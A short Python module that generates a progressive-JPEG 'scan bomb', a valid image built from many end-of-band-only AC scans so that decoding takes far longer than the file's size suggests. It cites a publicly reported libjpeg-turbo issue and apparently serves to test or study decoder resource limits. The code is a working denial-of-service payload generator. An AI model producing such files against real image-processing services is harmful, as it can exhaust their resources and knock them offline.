"""A progressive-JPEG "scan bomb": a valid file whose decode cost is scans x blocks.

After one DC scan, every further scan is an AC first-pass scan over the whole image whose
data is nothing but end-of-band runs (one 4-bit code per 32 767 blocks), so each scan costs a
few bytes to send and a full pass over every 8x8 block to decode. libjpeg decodes it without
complaint (a repeated band is only a warning); this is the LJT-01-003 issue of libjpeg-turbo's
report "Two Issues with the JPEG Standard".
"""

from __future__ import annotations

import struct

# The AC table codes EOB0..EOB14 (symbols 0x00, 0x10 .. 0xE0): fifteen 4-bit codes, the
# sixteenth (all ones) being reserved. EOBn covers 2**n + (n extra bits) blocks.
_EOB_SYMBOLS = bytes(n << 4 for n in range(15))


def _segment(marker: int, payload: bytes) -> bytes:
    return bytes([0xFF, marker]) + struct.pack(">H", len(payload) + 2) + payload


class _Bits:
    def __init__(self) -> None:
        self.out, self.acc, self.n = bytearray(), 0, 0

    def put(self, value: int, nbits: int) -> None:
        for i in range(nbits - 1, -1, -1):
            self.acc, self.n = (self.acc << 1) | ((value >> i) & 1), self.n + 1
            if self.n == 8:
                self.out.append(self.acc)
                if self.acc == 0xFF:
                    self.out.append(0)  # byte stuffing
                self.acc, self.n = 0, 0

    def flush(self) -> bytes:
        while self.n:
            self.put(1, 1)  # pad with ones
        return bytes(self.out)


def _eob_runs(blocks: int) -> bytes:
    bits = _Bits()
    while blocks:
        n = min(14, blocks.bit_length() - 1)
        run = min(blocks, (1 << (n + 1)) - 1)
        bits.put(n, 4)  # the code of EOBn is n
        bits.put(run - (1 << n), n)
        blocks -= run
    return bits.flush()


def scan_bomb(width: int, height: int, scans: int) -> bytes:
    """A greyscale progressive JPEG of mid-grey with 1 DC scan and `scans` - 1 AC scans."""
    blocks = ((width + 7) // 8) * ((height + 7) // 8)
    out = b"\xff\xd8" + _segment(0xDB, b"\x00" + bytes([1] * 64))
    out += _segment(0xC2, struct.pack(">BHHB", 8, height, width, 1) + b"\x01\x11\x00")
    dc_table = b"\x00" + bytes([1] + [0] * 15) + b"\x00"  # one code: DC difference 0
    ac_table = b"\x10" + bytes([0, 0, 0, 15] + [0] * 12) + _EOB_SYMBOLS
    out += _segment(0xC4, dc_table + ac_table)
    dc = _Bits()
    for _ in range(blocks):
        dc.put(0, 1)
    out += _segment(0xDA, b"\x01\x01\x00\x00\x00\x00") + dc.flush()
    ac = _segment(0xDA, b"\x01\x01\x00\x01\x3f\x00") + _eob_runs(blocks)  # Ss=1, Se=63, Ah=Al=0
    return out + ac * (scans - 1) + b"\xff\xd9"
